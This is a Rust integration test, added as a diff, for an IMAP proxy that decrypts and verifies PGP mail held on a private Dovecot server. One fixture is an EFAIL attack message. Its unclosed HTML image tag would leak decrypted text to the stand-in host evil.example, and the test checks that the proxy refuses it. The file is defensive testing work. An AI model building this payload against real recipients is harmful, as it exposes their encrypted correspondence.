@@ -1,0 +1,376 @@
+//! The IMAP proxy against a private Dovecot IMAP server, read with Python's imaplib:
+//! encrypted mail comes back decrypted and verified for the logged-in user, plain mail
+//! byte for byte, and what the proxy does not handle is not advertised.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::sync::Mutex;
+use std::time::Duration;
+
+use super::common::{Gpg, Sealpost, Server};
+use super::upstream::free_port;
+
+/// Bob's password at the private Dovecot.
+const PASSWORD: &str = "imap-secret";
+
+/// The private Dovecot (IMAP only, plain text on loopback) and Bob's mailbox.
+struct Dovecot {
+    port: u16,
+    /// The shell, whose stdin pipe is held open: Dovecot stops when it closes.
+    _shell: Mutex<std::process::Child>,
+}
+
+fn start_dovecot(fixtures: &[(&str, Vec<u8>)]) -> Dovecot {
+    use std::os::unix::fs::{chown, PermissionsExt};
+    let dir = tempfile::Builder::new()
+        .prefix("sealpost-imap")
+        .tempdir()
+        .expect("tempdir")
+        .keep();
+    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+    let home = dir.join("mail/example.org/bob");
+    let maildir = home.join("Maildir");
+    for sub in ["new", "cur", "tmp"] {
+        std::fs::create_dir_all(maildir.join(sub)).expect("maildir");
+    }
+    for (i, (name, bytes)) in fixtures.iter().enumerate() {
+        // Delivered in this order: UIDs 1, 2, 3 …
+        let file = maildir.join(format!("cur/{}.{name}.test:2,", 1_700_000_000 + i));
+        std::fs::write(&file, bytes).expect("fixture");
+    }
+    for entry in walk(&dir.join("mail")) {
+        chown(&entry, Some(65534), Some(65534)).expect("chown (the tests run as root)");
+    }
+    std::fs::write(
+        dir.join("passwd"),
+        format!("bob@example.org:{{PLAIN}}{PASSWORD}::::::\n"),
+    )
+    .expect("passwd");
+    let port = free_port();
+    let d = dir.display();
+    let config = format!(
+        "base_dir = {d}/run\n\
+         state_dir = {d}/state\n\
+         instance_name = sealpost-imap-{pid}-{port}\n\
+         log_path = {d}/dovecot.log\n\
+         protocols = imap\n\
+         listen = 127.0.0.1\n\
+         ssl = no\n\
+         disable_plaintext_auth = no\n\
+         first_valid_uid = 65534\n\
+         mail_location = maildir:{d}/mail/%d/%n/Maildir\n\
+         passdb {{\n  driver = passwd-file\n  args = {d}/passwd\n}}\n\
+         userdb {{\n  driver = static\n  args = uid=65534 gid=65534 home={d}/mail/%d/%n\n}}\n\
+         service imap-login {{\n  inet_listener imap {{\n    port = {port}\n  }}\n  inet_listener imaps {{\n    port = 0\n  }}\n}}\n",
+        pid = std::process::id(),
+    );
+    let conf = dir.join("dovecot.conf");
+    std::fs::write(&conf, config).expect("dovecot.conf");
+    let stderr = std::fs::File::create(dir.join("stderr")).expect("stderr file");
+    let mut shell = Command::new("sh")
+        .arg("-c")
+        .arg(r#"dovecot -F -c "$1" & pid=$!; read -r _ignored; kill "$pid"; wait "$pid"; rm -rf "$2""#)
+        .arg("sh")
+        .arg(&conf)
+        .arg(&dir)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::null())
+        .stderr(stderr)
+        .spawn()
+        .expect("sh");
+    let started = (0..400).any(|_| {
+        std::thread::sleep(Duration::from_millis(25));
+        std::net::TcpStream::connect(("127.0.0.1", port)).is_ok()
+    });
+    if !started {
+        let why = format!(
+            "{} {}",
+            std::fs::read_to_string(dir.join("stderr")).unwrap_or_default(),
+            std::fs::read_to_string(dir.join("dovecot.log")).unwrap_or_default()
+        );
+        drop(shell.stdin.take());
+        let _ = shell.wait();
+        panic!("Dovecot did not start (packages dovecot-core and dovecot-imapd): {why}");
+    }
+    Dovecot {
+        port,
+        _shell: Mutex::new(shell),
+    }
+}
+
+fn walk(dir: &Path) -> Vec<PathBuf> {
+    let mut out = vec![dir.to_path_buf()];
+    if let Ok(entries) = std::fs::read_dir(dir) {
+        for e in entries.flatten() {
+            let p = e.path();
+            if p.is_dir() {
+                out.extend(walk(&p));
+            } else {
+                out.push(p);
+            }
+        }
+    }
+    out
+}
+
+/// The world of these tests: Bob's gateway with his key and Alice's certificate, Alice's
+/// gpg, Dovecot holding the fixtures, and sealpost proxying to it.
+struct World {
+    _s: Sealpost,
+    _dovecot: Dovecot,
+    _server: Server,
+    /// The fixtures as stored.
+    plain: Vec<u8>,
+    /// The proxy's port.
+    port: u16,
+}
+
+fn crlf(text: &str) -> Vec<u8> {
+    text.replace("\r\n", "\n")
+        .replace('\n', "\r\n")
+        .into_bytes()
+}
+
+/// One Dovecot and one gateway for every check below; both stop when it is dropped.
+fn world() -> World {
+    {
+        let s = Sealpost::new();
+        s.generate("bob@example.org", &[]);
+        let alice = Gpg::new();
+        alice.generate("Alice <alice@example.net>", "ed25519", "sign", "never");
+        let alice_fpr = alice.fingerprint("alice@example.net");
+        alice.ok(&["--quick-add-key", &alice_fpr, "cv25519", "encr", "never"]);
+        let alice_pub = alice.ok(&["--armor", "--export", "alice@example.net"]);
+        assert!(s
+            .run_with_input(&["keys", "import", "-"], &alice_pub)
+            .status
+            .success());
+        alice.ok_with_input(
+            &["--import"],
+            s.ok(&["keys", "export", "bob@example.org"]).as_bytes(),
+        );
+        let payload = crlf(
+            "Content-Type: text/plain; charset=us-ascii; protected-headers=\"v1\"\n\
+             Subject: The real plan\n\
+             From: Alice <alice@example.net>\n\
+             To: bob@example.org\n\n\
+             Meet at the harbour at 7. IMAP-SECRET-4711\n",
+        );
+        let armored = alice.ok_with_input(
+            &[
+                "--armor",
+                "--sign",
+                "--encrypt",
+                "-u",
+                "alice@example.net",
+                "-r",
+                "bob@example.org",
+            ],
+            &payload,
+        );
+        let encrypted = [
+            crlf(
+                "From: Alice <alice@example.net>\nTo: bob@example.org\nSubject: [...]\n\
+                 Date: Fri, 04 Dec 2026 10:00:00 +0000\nMessage-ID: <enc-1@example.net>\n\
+                 MIME-Version: 1.0\n\
+                 Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"b\"\n\n\
+                 --b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n\
+                 --b\nContent-Type: application/octet-stream\n\n",
+            ),
+            crlf(String::from_utf8_lossy(&armored).trim_end()),
+            b"\r\n--b--\r\n".to_vec(),
+        ]
+        .concat();
+        let plain = crlf(
+            "From: Carol <carol@example.com>\nTo: bob@example.org\nSubject: lunch?\n\
+             Date: Fri, 04 Dec 2026 09:00:00 +0000\nMessage-ID: <plain-1@example.com>\n\n\
+             Plain text, stored as it is.   \n",
+        );
+        // EFAIL: a plain message with Alice's ciphertext for Bob attached below the root.
+        let efail = [
+            crlf(
+                "From: Mallory <mallory@evil.example>\nTo: bob@example.org\nSubject: see attached\n\
+                 MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"m\"\n\n\
+                 --m\nContent-Type: text/html\n\n<img src=\"http://evil.example/?\n\
+                 --m\nContent-Type: text/plain\n\n",
+            ),
+            crlf(String::from_utf8_lossy(&armored).trim_end()),
+            b"\r\n--m--\r\n".to_vec(),
+        ]
+        .concat();
+        let dovecot = start_dovecot(&[
+            ("plain", plain.clone()),
+            ("encrypted", encrypted),
+            ("efail", efail),
+        ]);
+        let config = format!(
+            "[[listener]]\nmode = \"outbound\"\naddress = \"127.0.0.1:0\"\ntls = \"none\"\n\n\
+             [imap]\nlisten = \"127.0.0.1:0\"\nupstream = \"127.0.0.1:{}\"\nupstream_tls = \"none\"\n",
+            dovecot.port
+        );
+        let server = s.serve(&config, &[]);
+        let out = server.stdout.lock().unwrap().clone();
+        let port = out
+            .lines()
+            .find_map(|l| l.split("IMAP proxy on ").nth(1))
+            .and_then(|r| r.split_whitespace().next())
+            .and_then(|a| a.rsplit(':').next())
+            .and_then(|p| p.parse().ok())
+            .unwrap_or_else(|| panic!("no IMAP proxy line in {out}"));
+        World {
+            _s: s,
+            _dovecot: dovecot,
+            _server: server,
+            plain,
+            port,
+        }
+    }
+}
+
+/// Runs a Python imaplib script against `port`; `IMAP` is the logged-in connection with
+/// INBOX selected. Returns stdout.
+fn imaplib(port: u16, body: &str) -> String {
+    let script = format!(
+        "import imaplib, sys, base64\n\
+         IMAP = imaplib.IMAP4('127.0.0.1', {port})\n\
+         IMAP.login('bob@example.org', '{PASSWORD}')\n\
+         IMAP.select('INBOX')\n\
+         def out(b):\n    assert isinstance(b, bytes), repr(b)\n    sys.stdout.write(base64.b64encode(b).decode() + '\\n')\n\
+         def flat(data):\n    return b''.join(b''.join(d) if isinstance(d, tuple) else d for d in data)\n\
+         {body}\n\
+         IMAP.logout()\n"
+    );
+    let out = Command::new("python3")
+        .arg("-c")
+        .arg(&script)
+        .output()
+        .expect("python3");
+    assert!(
+        out.status.success(),
+        "imaplib failed: {}\n{script}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+/// The base64 lines a script wrote with `out`, decoded.
+fn decoded(stdout: &str) -> Vec<Vec<u8>> {
+    use base64::Engine;
+    stdout
+        .lines()
+        .map(|l| {
+            base64::engine::general_purpose::STANDARD
+                .decode(l.trim())
+                .expect("base64 line")
+        })
+        .collect()
+}
+
+#[test]
+fn the_imap_proxy_serves_dovecot_mail_to_imaplib() {
+    let w = world();
+    encrypted_mail_is_fetched_decrypted_and_verified_plain_mail_byte_for_byte(&w);
+    the_message_list_shows_the_real_subject_and_sections_agree(&w);
+    efail_through_imap_is_refused_as_on_the_smtp_path(&w);
+    only_what_the_proxy_handles_is_advertised_and_flags_pass(&w);
+}
+
+fn encrypted_mail_is_fetched_decrypted_and_verified_plain_mail_byte_for_byte(w: &World) {
+    let got = decoded(&imaplib(
+        w.port,
+        "for uid in (b'1', b'2'):\n\
+         \x20   typ, data = IMAP.uid('FETCH', uid, '(RFC822.SIZE BODY.PEEK[])')\n\
+         \x20   out(data[0][0]); out(data[0][1])\n",
+    ));
+    let (plain_meta, plain) = (&got[0], &got[1]);
+    assert_eq!(plain, &w.plain, "plain mail passes byte for byte");
+    let size = format!("RFC822.SIZE {}", w.plain.len());
+    assert!(
+        String::from_utf8_lossy(plain_meta).contains(&size),
+        "{}",
+        String::from_utf8_lossy(plain_meta)
+    );
+    let (enc_meta, enc) = (
+        String::from_utf8_lossy(&got[2]),
+        String::from_utf8_lossy(&got[3]),
+    );
+    assert!(enc.contains("IMAP-SECRET-4711"), "{enc}");
+    assert!(!enc.contains("BEGIN PGP MESSAGE"), "{enc}");
+    assert!(
+        enc.contains("X-Sealpost-Verdict: signature=valid; encryption=decrypted"),
+        "{enc}"
+    );
+    assert!(enc.contains("\r\nSubject: The real plan\r\n"), "{enc}");
+    // The size the client is told is the size of what it gets.
+    assert!(
+        enc_meta.contains(&format!("RFC822.SIZE {}", got[3].len())),
+        "{enc_meta} vs {}",
+        got[3].len()
+    );
+}
+
+fn the_message_list_shows_the_real_subject_and_sections_agree(w: &World) {
+    let got = decoded(&imaplib(
+        w.port,
+        "typ, data = IMAP.uid('FETCH', '2', '(ENVELOPE BODY.PEEK[HEADER.FIELDS (SUBJECT FROM)])')\n\
+         out(flat(data))\n\
+         typ, data = IMAP.uid('FETCH', '2', '(BODY.PEEK[TEXT]<0.20>)')\n\
+         out(flat(data))\n\
+         typ, data = IMAP.uid('FETCH', '2', '(BODY.PEEK[])')\n\
+         out(data[0][1])\n",
+    ));
+    let list = String::from_utf8_lossy(&got[0]);
+    assert!(list.contains("ENVELOPE (\"Fri, 04 Dec 2026"), "{list}");
+    assert!(list.contains("\"The real plan\""), "{list}");
+    assert!(list.contains("Subject: The real plan\r\n"), "{list}");
+    assert!(!list.contains("[...]"), "{list}");
+    let whole = &got[2];
+    let split = whole
+        .windows(4)
+        .position(|w| w == b"\r\n\r\n")
+        .expect("header end")
+        + 4;
+    let text = &whole[split..split + 20];
+    assert!(
+        got[1].windows(20).any(|w| w == text),
+        "BODY[TEXT]<0.20> is the text of BODY[]: {} vs {}",
+        String::from_utf8_lossy(&got[1]),
+        String::from_utf8_lossy(text)
+    );
+}
+
+fn efail_through_imap_is_refused_as_on_the_smtp_path(w: &World) {
+    let got = decoded(&imaplib(
+        w.port,
+        "typ, data = IMAP.uid('FETCH', '3', '(BODY.PEEK[])')\nout(data[0][1])\n",
+    ));
+    let m = String::from_utf8_lossy(&got[0]);
+    assert!(m.contains("encryption=nested-ignored"), "{m}");
+    assert!(!m.contains("IMAP-SECRET-4711"), "{m}");
+    assert!(
+        m.contains("BEGIN PGP MESSAGE"),
+        "the ciphertext stays as it came: {m}"
+    );
+}
+
+fn only_what_the_proxy_handles_is_advertised_and_flags_pass(w: &World) {
+    let got = imaplib(
+        w.port,
+        "typ, caps = IMAP.capability()\nout(caps[0])\n\
+         IMAP.uid('STORE', '1', '+FLAGS', '(\\\\Flagged)')\n\
+         typ, data = IMAP.uid('FETCH', '1', '(FLAGS)')\nout(flat(data))\n\
+         typ, data = IMAP.uid('SEARCH', None, 'ALL')\nout(data[0])\n",
+    );
+    let got = decoded(&got);
+    let caps = String::from_utf8_lossy(&got[0]).to_ascii_uppercase();
+    assert!(caps.contains("IMAP4REV1"), "{caps}");
+    for dropped in ["COMPRESS", "BINARY", "CONDSTORE", "STARTTLS", "SORT"] {
+        assert!(!caps.contains(dropped), "{dropped} in {caps}");
+    }
+    assert!(
+        String::from_utf8_lossy(&got[1]).contains("\\Flagged"),
+        "{:?}",
+        got[1]
+    );
+    assert_eq!(String::from_utf8_lossy(&got[2]), "1 2 3");
+}
